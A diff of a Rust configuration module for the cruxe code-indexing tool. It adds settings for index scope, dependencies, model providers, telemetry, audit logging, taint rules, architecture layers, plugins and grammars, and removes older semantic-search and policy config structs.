@@ -1,10 +1,28 @@
 use crate::constants;
 use crate::error::ConfigError;
 use crate::languages;
-use crate::types::{FreshnessPolicy, PolicyMode, QueryIntent, RankingExplainLevel, SemanticMode};
+use crate::types::{
+    DependencyMode, FreshnessPolicy, PolicyMode, QueryIntent, RankingExplainLevel, SemanticMode,
+    SymlinkPolicy,
+};
 use serde::de::Deserializer;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+
+/// `--include`/`--exclude` globs from the command line; see
+/// [`override_path_scope`].
+static PATH_SCOPE_OVERRIDE: Mutex<Option<(Vec<String>, Vec<String>)>> = Mutex::new(None);
+
+/// Replace `[index] include` and/or `exclude` in every config loaded from
+/// now on, so `--include`/`--exclude` scope a run over whatever the config
+/// files say. An empty list keeps the configured value.
+pub fn override_path_scope(include: Vec<String>, exclude: Vec<String>) {
+    if let Ok(mut guard) = PATH_SCOPE_OVERRIDE.lock() {
+        *guard = Some((include, exclude));
+    }
+}
 
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct Config {
@@ -18,6 +36,62 @@ pub struct Config {
     pub logging: LoggingConfig,
     #[serde(default)]
     pub debug: DebugConfig,
+    #[serde(default)]
+    pub telemetry: TelemetryConfig,
+    #[serde(default)]
+    pub server: ServerConfig,
+    #[serde(default)]
+    pub audit: AuditConfig,
+    /// Per-rule overrides for `cruxe check`, keyed by rule id
+    /// (`[rules."go/time-tick-leak"]`).
+    #[serde(default)]
+    pub rules: BTreeMap<String, RuleConfig>,
+    #[serde(default)]
+    pub check: CheckConfig,
+    #[serde(default)]
+    pub deadcode: DeadcodeConfig,
+    #[serde(default)]
+    pub hotspots: HotspotsConfig,
+    #[serde(default)]
+    pub history: HistoryConfig,
+    #[serde(default)]
+    pub taint: TaintConfig,
+    #[serde(default)]
+    pub layers: LayersConfig,
+    /// Named index shards of a monorepo (`[shards.payments]`), built with
+    /// `cruxe index --shard <name>` and searched together with the main index.
+    #[serde(default)]
+    pub shards: BTreeMap<String, ShardConfig>,
+    /// Go build configurations a run can be narrowed to with `--build`.
+    #[serde(default)]
+    pub build: BuildConfig,
+    /// Settings handed to each language's analyzer (`[languages.python]`).
+    #[serde(default)]
+    pub languages: LanguagesConfig,
+    #[serde(default)]
+    pub routing: RoutingConfig,
+    #[serde(default)]
+    pub remote_cache: RemoteCacheConfig,
+    #[serde(default)]
+    pub output: OutputConfig,
+    #[serde(default)]
+    pub summarize: SummarizeConfig,
+    /// Named model servers (`[providers.gateway]`) that
+    /// `search.semantic.embedding.provider` and `summarize.backend` can
+    /// select by name.
+    #[serde(default)]
+    pub providers: BTreeMap<String, ProviderConfig>,
+    /// External analyzers run on every indexed file (`[plugins.naming]`).
+    #[serde(default)]
+    pub plugins: BTreeMap<String, PluginConfig>,
+    /// Tree-sitter grammars loaded at run time, by language name
+    /// (`[grammars.hcl]`).
+    #[serde(default)]
+    pub grammars: BTreeMap<String, GrammarConfig>,
+    /// Other indexed repositories queried by `--federated` commands, by the
+    /// name results are attributed to (`[federation.billing]`).
+    #[serde(default)]
+    pub federation: BTreeMap<String, FederatedIndexConfig>,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -28,6 +102,204 @@ pub struct IndexConfig {
     pub default_limit: usize,
     #[serde(default = "default_languages")]
     pub languages: Vec<String>,
+    /// URLs that receive a JSON POST summarizing each `cruxe index` run
+    /// (commit, duration, counts, findings in changed files) when it ends.
+    #[serde(default)]
+    pub webhooks: Vec<String>,
+    /// Workspace-relative globs; when set, only matching files are indexed.
+    /// A pattern ending in `/` covers everything below that directory.
+    #[serde(default)]
+    pub include: Vec<String>,
+    /// Workspace-relative globs of files never indexed, applied after
+    /// `include`.
+    #[serde(default)]
+    pub exclude: Vec<String>,
+    /// Third-party code vendored in `vendor/` or installed in
+    /// `node_modules/`.
+    #[serde(default)]
+    pub dependencies: DependencyIndexConfig,
+    /// Descend into initialized git submodules; their symbols are tagged
+    /// with the submodule they come from.
+    #[serde(default)]
+    pub submodules: bool,
+    /// Record the last commit, author and time to change each symbol, from
+    /// `git blame` of every file (re-)indexed.
+    #[serde(default)]
+    pub blame: bool,
+    /// Reuse the extraction of a file another ref of the project already
+    /// indexed with the same path and content, so indexing a new branch
+    /// parses only the files it changed.
+    #[serde(default = "default_blob_cache")]
+    pub blob_cache: bool,
+    /// `skip`, `follow` or `follow-within-root` (default): which symbolic
+    /// links the scan follows. A file reachable under several paths is
+    /// indexed once, under its real path when that is scanned too.
+    #[serde(default = "default_symlinks")]
+    pub symlinks: String,
+    /// Files with a line longer than this many bytes (minified bundles,
+    /// embedded data) are skipped; 0 turns the check off.
+    #[serde(default = "default_max_line_length")]
+    pub max_line_length: usize,
+    /// Skip files that look binary (a NUL byte in their first 8000 bytes,
+    /// as git decides).
+    #[serde(default = "default_skip_binary")]
+    pub skip_binary: bool,
+}
+
+impl IndexConfig {
+    /// The configured symlink policy; unknown values follow links within
+    /// the repository.
+    pub fn symlink_policy(&self) -> SymlinkPolicy {
+        self.symlinks.parse().unwrap_or_default()
+    }
+}
+
+/// `[index.dependencies]`: whether dependencies are indexed and how deep.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct DependencyIndexConfig {
+    /// `none`, `signatures` (symbols and signatures without bodies) or
+    /// `full`.
+    #[serde(default = "default_dependency_mode")]
+    pub mode: String,
+    /// Levels of dependencies indexed: 1 is direct dependencies only, 2 adds
+    /// theirs, and so on; 0 indexes every transitive dependency.
+    #[serde(default = "default_dependency_depth")]
+    pub depth: u32,
+}
+
+impl DependencyIndexConfig {
+    /// The configured mode; unknown values index no dependencies.
+    pub fn mode_typed(&self) -> DependencyMode {
+        self.mode.parse().unwrap_or_default()
+    }
+}
+
+/// Defaults for command output.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct OutputConfig {
+    /// `--format` used by commands run without one, when they accept it
+    /// (e.g. `json`).
+    #[serde(default)]
+    pub format: Option<String>,
+}
+
+/// Backend of `cruxe summarize`. Summaries are always built from the index;
+/// with `backend = "openai-compatible"` a chat-completions server also
+/// writes a prose overview from them.
+///
+/// ```toml
+/// [summarize]
+/// backend = "openai-compatible"
+/// endpoint = "http://127.0.0.1:8080/v1"
+/// model = "qwen2.5-coder-7b-instruct"
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SummarizeConfig {
+    /// `heuristic` (default) or `openai-compatible`.
+    #[serde(default)]
+    pub backend: Option<String>,
+    /// Chat completions URL, or the base URL of the API
+    /// (`http://127.0.0.1:8080/v1`). Default: a local llama.cpp server.
+    #[serde(default)]
+    pub endpoint: Option<String>,
+    #[serde(default)]
+    pub model: Option<String>,
+    /// Name of the environment variable holding the API key. Default:
+    /// `CRUXE_SUMMARIZE_API_KEY`; local servers need none.
+    #[serde(default)]
+    pub api_key_env: Option<String>,
+    /// Request timeout. Default: 60000.
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+    /// Header carrying the API key; see [`ProviderConfig::auth_header`].
+    #[serde(default)]
+    pub auth_header: Option<String>,
+    #[serde(default)]
+    pub requests_per_minute: Option<u32>,
+}
+
+impl SummarizeConfig {
+    /// The backend, normalized; unknown values read as `heuristic`.
+    pub fn backend(&self) -> &'static str {
+        match self
+            .backend
+            .as_deref()
+            .map(|value| value.trim().to_ascii_lowercase())
+            .as_deref()
+        {
+            Some(
+                "openai-compatible" | "openai_compatible" | "openai" | "llama.cpp" | "llamacpp",
+            ) => "openai-compatible",
+            Some("fake") => "fake",
+            _ => "heuristic",
+        }
+    }
+}
+
+/// A model server that embeddings and summaries can share, such as an
+/// organization's inference gateway. A feature selects it by name and takes
+/// from it whatever it does not set itself; models stay per feature.
+///
+/// ```toml
+/// [providers.gateway]
+/// endpoint = "https://inference.example.internal/v1"
+/// api_key_env = "GATEWAY_TOKEN"
+/// auth_header = "x-api-key"
+/// requests_per_minute = 600
+/// batch_size = 64
+///
+/// [search.semantic.embedding]
+/// provider = "gateway"
+/// model = "bge-m3"
+/// dimensions = 1024
+///
+/// [summarize]
+/// backend = "gateway"
+/// model = "qwen2.5-coder-32b-instruct"
+/// ```
+///
+/// An endpoint off this machine still needs the
+/// `search.semantic.external_provider_enabled` and
+/// `allow_code_payload_to_external` gates.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ProviderConfig {
+    /// `openai-compatible` (default) or `fake`, a deterministic stand-in
+    /// that never leaves the process, for tests.
+    #[serde(default)]
+    pub kind: Option<String>,
+    /// Base URL of the API (`https://host/v1`).
+    #[serde(default)]
+    pub endpoint: Option<String>,
+    /// Name of the environment variable holding the API key.
+    #[serde(default)]
+    pub api_key_env: Option<String>,
+    /// Header carrying the key. `authorization` (default) sends
+    /// `Bearer <key>`; any other header gets the key as is.
+    #[serde(default)]
+    pub auth_header: Option<String>,
+    /// Requests per minute a single run sends at most.
+    #[serde(default)]
+    pub requests_per_minute: Option<u32>,
+    /// Inputs per embedding request.
+    #[serde(default)]
+    pub batch_size: Option<usize>,
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+}
+
+impl ProviderConfig {
+    /// The kind, normalized; unknown values read as `openai-compatible`.
+    pub fn kind(&self) -> &'static str {
+        match self
+            .kind
+            .as_deref()
+            .map(|value| value.trim().to_ascii_lowercase())
+            .as_deref()
+        {
+            Some("fake") => "fake",
+            _ => "openai-compatible",
+        }
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -38,6 +310,10 @@ pub struct StorageConfig {
     pub busy_timeout_ms: u32,
     #[serde(default = "default_cache_size")]
     pub cache_size: i32,
+    /// Bytes of the state DB that query-only commands read through a memory
+    /// map instead of the page cache; `0` turns it off.
+    #[serde(default = "default_mmap_size")]
+    pub mmap_size: u64,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -68,405 +344,1018 @@ pub struct DebugConfig {
     pub ranking_reasons: bool,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct LoggingConfig {
-    #[serde(default = "default_log_level")]
-    pub level: String,
+/// Anonymous performance telemetry. Off unless explicitly enabled; see
+/// `crate::telemetry` for what is collected.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TelemetryConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// Collector URL. Reports stay local when unset.
+    #[serde(default)]
+    pub endpoint: Option<String>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SearchIntentConfig {
-    #[serde(default = "default_intent_rule_order")]
-    pub rule_order: Vec<String>,
-    #[serde(default = "default_intent_error_patterns")]
-    pub error_patterns: Vec<String>,
-    #[serde(default = "default_intent_path_extensions")]
-    pub path_extensions: Vec<String>,
-    #[serde(default = "default_intent_symbol_kind_keywords")]
-    pub symbol_kind_keywords: Vec<String>,
-    #[serde(default = "default_intent_enable_wrapped_quoted_error_literal")]
-    pub enable_wrapped_quoted_error_literal: bool,
+/// Append-only log of HTTP queries and exports; see `crate::audit`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct AuditConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// Log file. Default: `<data_dir>/audit.log`.
+    #[serde(default)]
+    pub path: Option<String>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct AdaptivePlanConfig {
-    #[serde(default = "default_adaptive_plan_enabled")]
-    pub enabled: bool,
-    #[serde(default = "default_adaptive_plan_allow_override")]
-    pub allow_override: bool,
-    #[serde(default = "default_adaptive_plan_high_confidence_threshold")]
-    pub high_confidence_threshold: f64,
-    #[serde(default = "default_adaptive_plan_low_confidence_threshold")]
-    pub low_confidence_threshold: f64,
-    #[serde(default = "default_lexical_fast_lexical_fanout_multiplier")]
-    pub lexical_fast_lexical_fanout_multiplier: usize,
-    #[serde(default = "default_hybrid_standard_semantic_limit_multiplier")]
-    pub hybrid_standard_semantic_limit_multiplier: usize,
-    #[serde(default = "default_hybrid_standard_lexical_fanout_multiplier")]
-    pub hybrid_standard_lexical_fanout_multiplier: usize,
-    #[serde(default = "default_hybrid_standard_semantic_fanout_multiplier")]
-    pub hybrid_standard_semantic_fanout_multiplier: usize,
-    #[serde(default = "default_semantic_deep_semantic_limit_multiplier")]
-    pub semantic_deep_semantic_limit_multiplier: usize,
-    #[serde(default = "default_semantic_deep_lexical_fanout_multiplier")]
-    pub semantic_deep_lexical_fanout_multiplier: usize,
-    #[serde(default = "default_semantic_deep_semantic_fanout_multiplier")]
-    pub semantic_deep_semantic_fanout_multiplier: usize,
-    #[serde(default = "default_lexical_fast_latency_budget_ms")]
-    pub lexical_fast_latency_budget_ms: u64,
-    #[serde(default = "default_hybrid_standard_latency_budget_ms")]
-    pub hybrid_standard_latency_budget_ms: u64,
-    #[serde(default = "default_semantic_deep_latency_budget_ms")]
-    pub semantic_deep_latency_budget_ms: u64,
+/// Override for one `cruxe check` rule. Unset fields keep the rule's
+/// built-in default.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct RuleConfig {
+    #[serde(default)]
+    pub enabled: Option<bool>,
+    /// `error`, `warning` or `info`.
+    #[serde(default)]
+    pub severity: Option<String>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct RankingSignalBudgetRange {
-    #[serde(
-        default = "default_budget_numeric_sentinel",
-        deserialize_with = "deserialize_budget_number"
-    )]
-    pub min: f64,
-    #[serde(
-        default = "default_budget_numeric_sentinel",
-        deserialize_with = "deserialize_budget_number"
-    )]
-    pub max: f64,
-    #[serde(
-        default = "default_budget_numeric_sentinel",
-        deserialize_with = "deserialize_budget_number"
-    )]
-    pub default: f64,
+/// `[build]`: the matrix of Go build configurations of the project.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct BuildConfig {
+    /// `[[build.configurations]]` entries, selected by name.
+    #[serde(default)]
+    pub configurations: Vec<BuildConfiguration>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct RankingSignalBudgetConfig {
-    #[serde(default = "default_budget_exact_match")]
-    pub exact_match: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_qualified_name")]
-    pub qualified_name: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_path_affinity")]
-    pub path_affinity: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_definition_boost")]
-    pub definition_boost: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_kind_match")]
-    pub kind_match: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_test_file_penalty")]
-    pub test_file_penalty: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_file_centrality_boost")]
-    pub file_centrality_boost: RankingSignalBudgetRange,
-    #[serde(default = "default_budget_secondary_cap_when_exact")]
-    pub secondary_cap_when_exact: RankingSignalBudgetRange,
+impl BuildConfig {
+    pub fn get(&self, name: &str) -> Option<&BuildConfiguration> {
+        self.configurations
+            .iter()
+            .find(|configuration| configuration.name == name)
+    }
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SemanticConfig {
-    #[serde(default = "default_semantic_mode", alias = "semantic_mode")]
-    pub mode: String,
-    #[serde(default = "default_semantic_ratio")]
-    pub ratio: f64,
-    #[serde(default = "default_lexical_short_circuit_threshold")]
-    pub lexical_short_circuit_threshold: f64,
-    #[serde(default = "default_confidence_threshold")]
-    pub confidence_threshold: f64,
-    #[serde(default = "default_confidence_top_score_weight")]
-    pub confidence_top_score_weight: f64,
-    #[serde(default = "default_confidence_score_margin_weight")]
-    pub confidence_score_margin_weight: f64,
-    #[serde(default = "default_confidence_channel_agreement_weight")]
-    pub confidence_channel_agreement_weight: f64,
-    #[serde(default = "default_local_rerank_phrase_boost")]
-    pub local_rerank_phrase_boost: f64,
-    #[serde(default = "default_local_rerank_token_overlap_weight")]
-    pub local_rerank_token_overlap_weight: f64,
-    #[serde(default = "default_semantic_limit_multiplier")]
-    pub semantic_limit_multiplier: usize,
-    #[serde(default = "default_lexical_fanout_multiplier")]
-    pub lexical_fanout_multiplier: usize,
-    #[serde(default = "default_semantic_fanout_multiplier")]
-    pub semantic_fanout_multiplier: usize,
-    #[serde(default = "default_profile_advisor_mode")]
-    pub profile_advisor_mode: String,
-    #[serde(default)]
-    pub external_provider_enabled: bool,
-    #[serde(default)]
-    pub allow_code_payload_to_external: bool,
+/// One target of the build matrix, e.g. linux/amd64 with the
+/// `integration` tag.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct BuildConfiguration {
+    pub name: String,
+    #[serde(default = "default_goos")]
+    pub goos: String,
+    #[serde(default = "default_goarch")]
+    pub goarch: String,
+    /// Build tags set with `-tags`.
     #[serde(default)]
-    pub embedding: SemanticEmbeddingConfig,
+    pub tags: Vec<String>,
+}
+
+/// `[languages]`: how each language's imports resolve and which of its
+/// files build.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct LanguagesConfig {
     #[serde(default)]
-    pub rerank: SemanticRerankConfig,
+    pub python: PythonLanguageConfig,
     #[serde(default)]
-    pub chunking: SemanticChunkingConfig,
+    pub typescript: TypeScriptLanguageConfig,
     #[serde(default)]
-    pub overrides: SemanticOverridesConfig,
+    pub go: GoLanguageConfig,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct RetrievalPolicyConfig {
-    #[serde(default = "default_policy_mode")]
-    pub mode: String,
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PythonLanguageConfig {
+    /// Virtualenv whose installed packages are third-party imports, e.g.
+    /// `.venv`; relative to the workspace.
     #[serde(default)]
-    pub allow_request_override: bool,
-    #[serde(default = "default_policy_allowed_override_modes")]
-    pub allowed_override_modes: Vec<String>,
+    pub virtualenv: Option<String>,
+    /// Directories imports are relative to besides the workspace root
+    /// (`src` for a src layout).
     #[serde(default)]
-    pub path: PolicyPathConfig,
+    pub source_roots: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TypeScriptLanguageConfig {
+    /// `tsconfig.json` whose `baseUrl` and `paths` map import specifiers;
+    /// relative to the workspace. Default: `tsconfig.json` at the root.
     #[serde(default)]
-    pub kind: PolicyKindConfig,
+    pub tsconfig: Option<String>,
+}
+
+/// The Go build used when `--build` names none; without any field set every
+/// Go file is in.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct GoLanguageConfig {
     #[serde(default)]
-    pub redaction: PolicyRedactionConfig,
+    pub goos: Option<String>,
     #[serde(default)]
-    pub detect_secrets: DetectSecretsCompatConfig,
+    pub goarch: Option<String>,
     #[serde(default)]
-    pub opa: OpaPolicyConfig,
+    pub tags: Vec<String>,
+}
+
+impl GoLanguageConfig {
+    pub fn build(&self) -> Option<BuildConfiguration> {
+        if self.goos.is_none() && self.goarch.is_none() && self.tags.is_empty() {
+            return None;
+        }
+        Some(BuildConfiguration {
+            name: "languages.go".to_string(),
+            goos: self.goos.clone().unwrap_or_else(default_goos),
+            goarch: self.goarch.clone().unwrap_or_else(default_goarch),
+            tags: self.tags.clone(),
+        })
+    }
 }
 
+/// Defaults for `cruxe check`.
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
-pub struct PolicyPathConfig {
+pub struct CheckConfig {
+    /// `strict`, `standard` or `lenient`. When set (here or with `--profile`),
+    /// `cruxe check` exits non-zero on findings at the profile's gate severity.
     #[serde(default)]
-    pub deny: Vec<String>,
+    pub profile: Option<String>,
+    /// Always run as `cruxe check --ratchet`.
     #[serde(default)]
-    pub allow: Vec<String>,
+    pub ratchet: bool,
 }
 
+/// Allowlists for `cruxe deadcode`.
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
-pub struct PolicyKindConfig {
-    #[serde(default)]
-    pub deny_result_types: Vec<String>,
+pub struct DeadcodeConfig {
+    /// Globs over symbol name, qualified name or path for code reached by
+    /// reflection, code generation or frameworks the index cannot see.
     #[serde(default)]
-    pub allow_result_types: Vec<String>,
+    pub allow: Vec<String>,
+    /// Report exported API too instead of treating it as an entry point.
     #[serde(default)]
-    pub deny_symbol_kinds: Vec<String>,
+    pub include_exported: bool,
+    /// Also report exported symbols no other package calls or mentions.
     #[serde(default)]
-    pub allow_symbol_kinds: Vec<String>,
+    pub unused_exports: bool,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct PolicyRedactionConfig {
-    #[serde(default = "default_policy_redaction_enabled")]
-    pub enabled: bool,
-    #[serde(default = "default_policy_email_masking")]
-    pub email_masking: bool,
-    #[serde(default = "default_policy_high_entropy_min_length")]
-    pub high_entropy_min_length: usize,
-    #[serde(default = "default_policy_high_entropy_threshold")]
-    pub high_entropy_threshold: f64,
+/// Defaults for `cruxe hotspots`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct HotspotsConfig {
+    /// Change-frequency window as any `git log --since` value
+    /// (`3 months ago`, `2026-01-01`). Default: `6 months ago`.
     #[serde(default)]
-    pub custom_rules: Vec<PolicyRedactionRule>,
-}
-
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct PolicyRedactionRule {
-    pub name: String,
-    pub category: String,
-    pub pattern: String,
-    #[serde(default = "default_policy_redaction_placeholder")]
-    pub placeholder: String,
+    pub since: Option<String>,
 }
 
+/// What to do when a shallow clone lacks history a command needs: the merge
+/// base of an overlay sync, the base of a `changed` or `impact` range, the
+/// `hotspots` window.
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
-pub struct DetectSecretsCompatConfig {
+pub struct HistoryConfig {
+    /// Commits to fetch with `git fetch --deepen` each time, up to 10 times
+    /// per operation (`hotspots` fetches back to its window instead). 0, the
+    /// default, never fetches: the command degrades or says what is missing.
     #[serde(default)]
-    pub enabled: bool,
+    pub deepen: u32,
+}
+
+/// Extra sources, sinks and sanitizers for the `cruxe check` taint rules,
+/// added to the built-in ones. Each entry is a selector as written in code,
+/// matched at a `.` or word boundary: `Headers` matches `req.Headers[...]`,
+/// `db.Query` matches `s.db.Query(...)`.
+///
+/// ```toml
+/// [taint]
+/// sources = ["ctx.Param", "Request.Header"]
+/// sanitizers = ["validate.ID"]
+///
+/// [taint.sinks]
+/// sql = ["store.RawQuery"]
+/// command = ["shell.Run"]
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TaintConfig {
+    /// Expressions whose value comes from outside (request parameters,
+    /// headers, form values).
     #[serde(default)]
-    pub plugins: Vec<String>,
+    pub sources: Vec<String>,
+    /// Calls whose arguments must not carry outside input, keyed by kind
+    /// (`sql` or `command`).
     #[serde(default)]
-    pub custom_patterns: Vec<String>,
-}
-
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct OpaPolicyConfig {
+    pub sinks: BTreeMap<String, Vec<String>>,
+    /// Calls whose result is safe whatever their arguments.
     #[serde(default)]
-    pub enabled: bool,
-    #[serde(default = "default_policy_opa_command")]
-    pub command: String,
-    #[serde(default = "default_policy_opa_query")]
-    pub query: String,
+    pub sanitizers: Vec<String>,
+}
+
+/// Architecture layers checked by `cruxe hook pre-commit`.
+///
+/// ```toml
+/// [layers.paths]
+/// domain = ["src/domain/**"]
+/// infra = ["src/infra/**", "src/db/**"]
+///
+/// [layers.forbid]
+/// domain = ["infra"]
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct LayersConfig {
+    /// Path globs of each layer, keyed by layer name. A file belongs to the
+    /// first layer, by name, with a matching glob.
     #[serde(default)]
-    pub policy_path: Option<String>,
+    pub paths: BTreeMap<String, Vec<String>>,
+    /// Layers each layer must not import.
+    #[serde(default)]
+    pub forbid: BTreeMap<String, Vec<String>>,
+}
+
+/// Architecture rules checked by `cruxe lint-arch`, read from
+/// [`constants::ARCH_RULES_FILE`] rather than the main config.
+///
+/// ```toml
+/// [[rule]]
+/// name = "handlers-through-interfaces"
+/// from = "**/handlers"
+/// may_call = ["**/auth", "**/database"]
+/// via = "interface"
+///
+/// [[rule]]
+/// name = "pure-domain"
+/// from = "internal/domain/**"
+/// must_not_import = ["internal/infra/**"]
+/// message = "the domain layer must not depend on infrastructure"
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ArchRulesFile {
+    #[serde(default, rename = "rule")]
+    pub rules: Vec<ArchRuleConfig>,
 }
 
+impl ArchRulesFile {
+    pub fn load(path: &Path) -> Result<Self, ConfigError> {
+        if !path.exists() {
+            return Err(ConfigError::NotFound {
+                path: path.display().to_string(),
+            });
+        }
+        let text = std::fs::read_to_string(path)?;
+        toml::from_str(&text)
+            .map_err(|e| ConfigError::ParseError(format!("{}: {}", path.display(), e)))
+    }
+}
+
+/// One architecture rule. Packages are source directories, matched by glob;
+/// calls and imports within one package are never checked.
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
-pub struct SemanticOverridesConfig {
+pub struct ArchRuleConfig {
+    pub name: String,
+    /// Packages the rule constrains, as callers and importers.
+    pub from: String,
+    /// When set, the only other packages `from` may call.
     #[serde(default)]
-    pub natural_language: SemanticQueryOverride,
+    pub may_call: Option<Vec<String>>,
     #[serde(default)]
-    pub symbol: SemanticQueryOverride,
+    pub must_not_call: Vec<String>,
+    /// When set, the only other packages `from` may import.
     #[serde(default)]
-    pub path: SemanticQueryOverride,
+    pub may_import: Option<Vec<String>>,
     #[serde(default)]
-    pub error: SemanticQueryOverride,
+    pub must_not_import: Vec<String>,
+    /// `interface`: calls into other packages must reach methods that an
+    /// interface or trait declares, never concrete functions.
+    #[serde(default)]
+    pub via: Option<String>,
+    /// Explanation printed with each violation.
+    #[serde(default)]
+    pub message: Option<String>,
 }
 
+/// An external analyzer: a long-running program that reads one JSON request
+/// per line on stdin (a file with its source, symbols and calls) and answers
+/// each with one JSON line of extra symbols, calls and findings.
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
-pub struct SemanticQueryOverride {
+pub struct PluginConfig {
+    /// Program and arguments, run from the repository root.
     #[serde(default)]
-    pub ratio: Option<f64>,
+    pub command: Vec<String>,
+    /// Languages of the files sent to it; empty for every language.
+    #[serde(default)]
+    pub languages: Vec<String>,
+    /// Also send each file's syntax tree (named nodes with their lines).
+    #[serde(default)]
+    pub ast: bool,
+    /// Time to answer one file before the plugin is stopped for the rest of
+    /// the run (default 10000).
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+    #[serde(default)]
+    pub disabled: bool,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SemanticEmbeddingConfig {
-    #[serde(default = "default_semantic_embedding_profile", alias = "profile")]
-    pub profile: String,
-    #[serde(default = "default_semantic_embedding_provider")]
-    pub provider: String,
-    #[serde(default = "default_semantic_embedding_model")]
-    pub model: String,
-    #[serde(default = "default_semantic_embedding_model_version")]
-    pub model_version: String,
-    #[serde(default = "default_semantic_embedding_dimensions")]
-    pub dimensions: usize,
-    #[serde(default = "default_semantic_embedding_batch_size")]
-    pub batch_size: usize,
-    #[serde(default = "default_semantic_vector_backend")]
-    pub vector_backend: String,
+impl PluginConfig {
+    /// Whether files of `language` are sent to the plugin.
+    pub fn wants(&self, language: &str) -> bool {
+        !self.disabled
+            && (self.languages.is_empty()
+                || self
+                    .languages
+                    .iter()
+                    .any(|wanted| wanted.eq_ignore_ascii_case(language)))
+    }
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SemanticRerankConfig {
-    #[serde(default = "default_semantic_rerank_provider")]
-    pub provider: String,
-    #[serde(default = "default_semantic_rerank_timeout_ms")]
-    pub timeout_ms: u64,
-    #[serde(default = "default_semantic_rerank_cross_encoder_model")]
-    pub cross_encoder_model: String,
-    #[serde(default = "default_semantic_rerank_cross_encoder_max_length")]
-    pub cross_encoder_max_length: usize,
-    #[serde(default = "default_semantic_rerank_candidate_cap")]
-    pub candidate_cap: usize,
-    #[serde(default = "default_semantic_rerank_timeout_budget_ms")]
-    pub timeout_budget_ms: u64,
+/// A tree-sitter grammar compiled to WebAssembly (what
+/// `tree-sitter build --wasm` produces), loaded into a sandboxed WASM store
+/// when indexing starts so languages without built-in support can be
+/// indexed.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct GrammarConfig {
+    /// Path of the `.wasm` file, relative to the repository root.
+    pub library: String,
+    /// Function the module exports for the language; default
+    /// `tree_sitter_<name>` with dashes as underscores.
     #[serde(default)]
-    pub endpoint: Option<String>,
+    pub symbol: Option<String>,
+    /// File extensions of the language, without the dot; default the
+    /// language name.
+    #[serde(default)]
+    pub extensions: Vec<String>,
+    /// Tags query with `@definition.<kind>` and `@name` captures, relative
+    /// to the repository root; without it files are parsed but yield no
+    /// symbols.
+    #[serde(default)]
+    pub tags_query: Option<String>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SemanticChunkingConfig {
-    #[serde(default = "default_semantic_chunking_max_chunk_lines")]
-    pub max_chunk_lines: usize,
-    #[serde(default = "default_semantic_chunking_chunk_size_lines")]
-    pub chunk_size_lines: usize,
-    #[serde(default = "default_semantic_chunking_chunk_overlap_lines")]
-    pub chunk_overlap_lines: usize,
-    #[serde(default = "default_semantic_chunking_max_chunk_tokens")]
-    pub max_chunk_tokens: usize,
+impl GrammarConfig {
+    /// The function the library exports for language `name`.
+    pub fn symbol_for(&self, name: &str) -> String {
+        self.symbol
+            .clone()
+            .unwrap_or_else(|| format!("tree_sitter_{}", name.replace('-', "_")))
+    }
 }
 
-fn default_max_file_size() -> u64 {
-    constants::MAX_FILE_SIZE
-}
-fn default_limit() -> usize {
-    constants::DEFAULT_LIMIT
-}
-fn default_languages() -> Vec<String> {
-    languages::supported_indexable_languages()
-        .iter()
-        .map(|language| (*language).to_string())
-        .collect()
-}
